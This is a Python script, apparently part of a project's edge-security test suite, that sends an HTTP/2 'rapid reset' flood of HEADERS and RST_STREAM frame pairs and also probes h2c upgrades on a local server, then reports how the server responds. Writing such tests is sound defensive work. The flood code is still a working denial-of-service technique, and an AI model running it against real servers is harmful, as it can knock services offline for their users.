"""Attack (g): HTTP/2 in clear text on the public port.

``--mode preface``: the prior-knowledge preface, a SETTINGS frame, then ``--streams``
HEADERS + RST_STREAM pairs (the "rapid reset" pattern) in batches. ``--mode upgrade``:
an HTTP/1.1 request asking to switch to ``h2c``. Notes whether the server spoke HTTP/2
back (a SETTINGS frame, or ``101 Switching Protocols``) and what else it did.
"""

from __future__ import annotations

import contextlib
import select
import struct
import time

from tests.edge.attackers.wire import Reader, arguments, connect, http_request, report

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM = 0x4, 0x1, 0x3
END_STREAM, END_HEADERS = 0x1, 0x4
#: Pairs written per send: big enough to keep the server's socket readable.
BATCH = 500


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def request_headers(port: int) -> bytes:
    """HPACK: :method GET, :scheme http, :path / (static table), :authority literal."""
    authority = f"127.0.0.1:{port}".encode()
    return b"\x82\x86\x84\x41" + bytes([len(authority)]) + authority


def preface(args: object, port: int, source: str, streams: int, seconds: float) -> None:
    sock = connect(port, source)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    block = request_headers(port)
    sent = 0
    spoke_h2 = False
    answer = b""
    deadline = time.monotonic() + seconds
    stream = 1
    closed = False
    try:
        while sent < streams and time.monotonic() < deadline:
            batch = b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, stream + 2 * i, block)
                + frame(RST_STREAM, 0, stream + 2 * i, struct.pack("!I", 0x8))
                for i in range(min(BATCH, streams - sent))
            )
            sock.sendall(batch)
            count = len(batch) // (len(block) + 9 + 13)
            sent += count
            stream += 2 * count
            while select.select([sock], [], [], 0)[0]:
                data = sock.recv(65536)
                if not data:
                    closed = True
                    break
                answer += data
            if closed:
                break
    except OSError:
        closed = True
    if not closed:
        sock.settimeout(1.0)
        with contextlib.suppress(TimeoutError, OSError):
            answer += sock.recv(65536)
    sock.close()
    # An HTTP/2 server's first frame is its SETTINGS (type 4 in the header's 4th byte).
    spoke_h2 = len(answer) >= 9 and answer[3] == SETTINGS
    report(
        mode="preface",
        pairs_sent=sent,
        spoke_h2=spoke_h2,
        answer=answer[:60].decode("latin-1"),
        closed_by_server=closed,
    )


def upgrade(port: int, source: str) -> None:
    sock = connect(port, source)
    sock.sendall(
        http_request(
            "GET",
            "/healthz",
            port=port,
            headers={
                "Connection": "Upgrade, HTTP2-Settings",
                "Upgrade": "h2c",
                "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA",
            },
        )
    )
    status, head = Reader(sock).head()
    sock.close()
    report(mode="upgrade", status=status, spoke_h2=status == 101, head=head.split("\r\n")[0])


def main() -> None:
    parser = arguments(__doc__ or "")
    parser.add_argument("--mode", choices=("preface", "upgrade"), required=True)
    parser.add_argument("--streams", type=int, default=20_000)
    args = parser.parse_args()
    if args.mode == "preface":
        preface(args, args.port, args.source, args.streams, args.seconds)
    else:
        upgrade(args.port, args.source)


if __name__ == "__main__":
    main()
